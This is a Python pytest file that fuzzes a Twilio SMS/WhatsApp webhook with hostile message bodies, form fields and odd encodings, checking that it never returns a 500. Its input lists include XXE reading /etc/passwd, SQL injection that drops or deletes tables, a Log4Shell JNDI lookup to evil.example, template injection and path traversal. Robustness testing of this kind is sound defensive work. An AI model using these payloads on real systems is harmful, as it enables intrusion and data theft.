"""Hostile bodies and forms: each answered with valid TwiML or a short 4xx, never a 500."""

from xml.etree import ElementTree

import pytest
from conftest import Twilio, message_text

from service.core.segments import segment
from service.web.flood import FloodGate


@pytest.fixture(scope="module")
def shared_app(make_module_app):
    """One app for the whole module (building one takes a fifth of a second); no flood limit here."""
    app = make_module_app()
    app.extensions["textline"].flood = FloodGate(limit=10**9)
    return app


@pytest.fixture
def client(shared_app):
    return shared_app.test_client()


@pytest.fixture
def twilio(client):
    return Twilio(client)


HOSTILE_BODIES = [
    "",
    " \t\r\n ",
    "\x00",
    "\x00MEDS\x00",
    "\x07\x08\x1b[31mMEDS\x1b[0m",
    "<Response><Message>free money</Message></Response>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "]]><![CDATA[<Redirect>https://evil.example</Redirect>]]>",
    "&amp;&lt;&gt;&#0;&#xFFFF;",
    "{keyword} {page} {0} {count!r} {__class__}",
    "%s%s%s%n%x%d",
    "' OR 1=1; DROP TABLE usage; --",
    "MEDS'; DELETE FROM seen_messages; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %}",
    "../../../../etc/passwd",
    "MEDS " + "9" * 400,
    "MEDS -1",
    "MEDS 0",
    "MEDS 1e309",
    "MEDS ٣",  # Arabic-Indic digit three
    "MEDS ² ⅷ",
    "\u202eSDEM\u202c",  # right-to-left override
    "\u200b\u200c\u200dMEDS\u2060\ufeff",
    "M\u0301E\u0301D\u0301S\u0301" * 50,  # combining accents
    "Z\u0336\u0335\u0334a\u0337\u0338l\u0321\u0322go" * 40,
    "\U0001f600" * 1600,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,  # family emoji sequences
    "\ud800",  # a lone surrogate, as some encoders send it
    "\udfff\ud800MEDS",
    "\ufffd" * 100,
    "ＭＥＤＳ　２",
    "ﬁ ﬂ ﬀ Ⅻ ㎒ ㍻",
    "a" * 5000,
    "MEDS\n" * 400,
    "STOP " * 300,
    "HELP\x00STOP",
    "🇺🇸" * 200,
    "\u0000\uffff\U0010ffff",
    "İSTANBUL ǅ ß ẞ ı",
    "한국어 中文 العربية русский tiếng việt " * 20,
]

HOSTILE_FIELDS = [
    {"From": ""},
    {"From": "whatsapp:"},
    {"From": "+" + "9" * 500},
    {"From": "not a number"},
    {"From": "whatsapp:+15551234567\x00"},
    {"FromCountry": "ZZZ"},
    {"FromCountry": "\x00\x01"},
    {"FromCountry": "ab"},
    {"FromCountry": "12"},
    {"MessageSid": ""},
    {"MessageSid": "\U0001f600" * 200},
    {"OptOutType": "<script>"},
    {"ProfileName": "\u202eevil\x00"},
    {"NumMedia": "-99999999999999999999"},
]


def _valid(response):
    assert response.status_code != 500
    if response.status_code >= 400:
        assert 400 <= response.status_code < 500 and response.mimetype == "text/plain"
        assert len(response.data) < 100
        return None
    text = message_text(response)
    if text is not None:
        assert segment(text).segments <= 3 or len(text) <= 1600
    return text


def test_there_are_at_least_thirty_hostile_bodies():
    assert len(HOSTILE_BODIES) >= 30


@pytest.mark.parametrize("body", HOSTILE_BODIES, ids=range(len(HOSTILE_BODIES)))
def test_hostile_bodies_get_valid_twiml(twilio, body):
    form = twilio.form(body.encode("utf-8", "surrogatepass").decode("utf-8", "replace"))
    assert _valid(twilio.post_form(form)) is not None


@pytest.mark.parametrize("body", HOSTILE_BODIES[:12], ids=range(12))
def test_hostile_bodies_over_whatsapp(twilio, body):
    assert _valid(twilio.post(body, sender="whatsapp:+447700900123", ProfileName="Mallory"))


@pytest.mark.parametrize("fields", HOSTILE_FIELDS, ids=range(len(HOSTILE_FIELDS)))
def test_hostile_form_fields_get_valid_twiml(twilio, fields):
    form = twilio.form("MEDS")
    form.update(fields)
    _valid(twilio.post_form(form))


def test_repeated_fields_are_signed_and_answered(client):
    twilio = Twilio(client)
    form = twilio.form("MEDS")
    pairs = [*form.items(), ("Body", "THERAPY"), ("Body", "suicide")]
    from werkzeug.datastructures import MultiDict

    multi = MultiDict(pairs)
    signature = twilio.validator.compute_signature("https://textline.example.org/sms", multi)
    _valid(client.post("/sms", data=multi, headers={"X-Twilio-Signature": signature}))


@pytest.mark.parametrize(
    "content_type, data",
    [
        ("application/json", b'{"Body": "MEDS"}'),
        ("text/plain", b"MEDS"),
        (
            "multipart/form-data; boundary=x",
            b'--x\r\nContent-Disposition: form-data; name="Body"\r\n\r\nMEDS\r\n--x--\r\n',
        ),
        ("multipart/form-data", b"garbage"),
        ("application/x-www-form-urlencoded; charset=utf-16", "Body=MEDS".encode("utf-16")),
        ("application/x-www-form-urlencoded", b"=" * 1000),
        ("application/x-www-form-urlencoded", b"&" * 10_000),
        ("application/x-www-form-urlencoded", b"Body=" + b"%41" * 20_000),
    ],
)
def test_odd_content_types_and_encodings_never_500(client, content_type, data):
    response = client.post("/sms", data=data, content_type=content_type, headers={"X-Twilio-Signature": "x"})
    assert response.status_code in (400, 403, 413)
    assert response.mimetype == "text/plain"


def test_unsigned_mode_answers_hostile_bodies_too(make_app):
    app = make_app(twilio_auth_token="")
    client = app.test_client()
    for n, body in enumerate(HOSTILE_BODIES):
        response = client.post(
            "/sms", data={"Body": body.encode("utf-8", "replace").decode("utf-8", "replace"), "From": f"+1555{n:07d}"}
        )
        assert response.status_code == 200
        assert ElementTree.fromstring(response.data).findtext("Message")
